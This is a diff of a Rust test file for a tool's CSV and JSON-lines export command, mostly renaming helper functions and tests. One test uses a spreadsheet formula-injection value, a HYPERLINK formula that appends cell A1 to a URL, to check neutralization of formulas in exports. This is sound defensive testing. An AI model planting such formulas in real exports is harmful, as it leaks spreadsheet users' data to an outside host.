@@ -1,38 +1,38 @@
 //! `converge export`: rows as CSV and JSON lines.
 
-use super::{complained, document, folder, history, odd, run, said};
+use super::{document, folder, history, odd, run, stderr_of, stdout_of};
 use converge::{Doc, Error, Value};
 use converge_rig::history::TABLE;
 use std::fs;
 
 #[test]
-fn export_writes_what_other_tools_read() -> Result<(), Error> {
+fn export_writes_csv_and_json_lines() -> Result<(), Error> {
     let folder = folder();
     odd()?.save_file(folder.path().join("doc"))?;
-    let csv = said(folder.path(), &["export", "doc", "--table", "odd"]);
+    let csv = stdout_of(folder.path(), &["export", "doc", "--table", "odd"]);
     let expected = "id,blob,flag,large,none,null,real,text,vast,zoo\r\n\
                     \"r\n1\",00ff,true,9223372036854775807,NaN,,2.0,\"a,\"\"b\"\"\r\n\u{1b}[31m\",-Infinity,\r\n\
                     r2,,,,,,,,,é\r\n";
     assert_eq!(csv, expected);
-    let json = said(folder.path(), &["export", "doc", "--table", "odd", "--format", "jsonl", "--id", "row"]);
+    let json = stdout_of(folder.path(), &["export", "doc", "--table", "odd", "--format", "jsonl", "--id", "row"]);
     let expected = "{\"row\":\"r\\n1\",\"blob\":\"00ff\",\"flag\":true,\"large\":9223372036854775807,\"none\":\"NaN\",\
                     \"null\":null,\"real\":2.0,\"text\":\"a,\\\"b\\\"\\r\\n\\u001b[31m\",\"vast\":\"-Infinity\"}\n\
                     {\"row\":\"r2\",\"text\":\"\",\"zoo\":\"é\"}\n";
     assert_eq!(json, expected);
-    assert_eq!(said(folder.path(), &["export", "doc", "--table", "odd", "-o", "out"]), "");
+    assert_eq!(stdout_of(folder.path(), &["export", "doc", "--table", "odd", "-o", "out"]), "");
     assert_eq!(fs::read_to_string(folder.path().join("out")).expect("written"), csv);
 
-    let error = complained(folder.path(), &["export", "doc", "--table", "even"]);
+    let error = stderr_of(folder.path(), &["export", "doc", "--table", "even"]);
     assert!(error.ends_with("there are no rows in table \"even\"; tables: odd\n"), "{error}");
-    let error = complained(folder.path(), &["export", "doc", "--table", "odd", "--id", "zoo", "-o", "none"]);
+    let error = stderr_of(folder.path(), &["export", "doc", "--table", "odd", "--id", "zoo", "-o", "none"]);
     assert!(error.contains("has a column \"zoo\"") && error.contains("--id NAME"), "{error}");
-    let error = complained(folder.path(), &["export", "doc", "--table", "odd", "-o", "."]);
+    let error = stderr_of(folder.path(), &["export", "doc", "--table", "odd", "-o", "."]);
     assert!(error.starts_with("converge: .: "), "{error}");
     Ok(())
 }
 
 #[test]
-fn exported_texts_pass_for_formulas_unless_they_are_neutralized() -> Result<(), Error> {
+fn formulas_are_exported_unchanged_unless_they_are_neutralized() -> Result<(), Error> {
     let folder = folder();
     let doc = Doc::create("ann")?;
     let formula = "=HYPERLINK(\"http://example.org/\" & A1)";
@@ -43,9 +43,10 @@ fn exported_texts_pass_for_formulas_unless_they_are_neutralized() -> Result<(), 
     }
     doc.save_file(folder.path().join("doc"))?;
     let export = |more: &[&str]| {
-        let csv = said(folder.path(), &[&["export", "doc", "--table", "t"], more].concat());
+        let csv = stdout_of(folder.path(), &[&["export", "doc", "--table", "t"], more].concat());
         let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
-        let records = reader.records().map(|record| record.expect("a record").iter().map(str::to_owned).collect());
+        let records =
+            reader.records().map(|record| record.expect("a valid record").iter().map(str::to_owned).collect());
         records.collect::<Vec<Vec<String>>>()
     };
     let row = |id: &str, text: &str, number: &str| [id, text, number].map(str::to_owned).to_vec();
@@ -74,12 +75,12 @@ fn export_writes_every_row_of_a_real_history() -> Result<(), Error> {
     let folder = folder();
     let doc = document(&history("automerge.history.tsv.gz"));
     doc.save_file(folder.path().join("doc"))?;
-    let csv = said(folder.path(), &["export", "doc", "--table", TABLE]);
+    let csv = stdout_of(folder.path(), &["export", "doc", "--table", TABLE]);
     let mut reader = csv::Reader::from_reader(csv.as_bytes());
     assert_eq!(reader.headers().expect("a header"), vec!["id", "blob", "by", "mode", "modified"]);
     let read: Vec<Vec<String>> =
-        reader.records().map(|record| record.expect("a record").iter().map(str::to_owned).collect()).collect();
-    let json = said(folder.path(), &["export", "doc", "--table", TABLE, "--format=jsonl"]);
+        reader.records().map(|record| record.expect("a valid record").iter().map(str::to_owned).collect()).collect();
+    let json = stdout_of(folder.path(), &["export", "doc", "--table", TABLE, "--format=jsonl"]);
     let mut lines = json.lines();
     assert_eq!(read.len(), 649);
     for (row, record) in doc.rows(TABLE, Default::default()).zip(read) {
@@ -90,7 +91,7 @@ fn export_writes_every_row_of_a_real_history() -> Result<(), Error> {
             let (field, value) = match cell.value {
                 Value::Integer(value) => (value.to_string(), value.into()),
                 Value::Text(value) => (value.clone(), serde_json::Value::from(value)),
-                other => panic!("{other:?} is not in these histories"),
+                other => panic!("unexpected value {other:?}"),
             };
             fields.push(field);
             object.insert(cell.column, value);
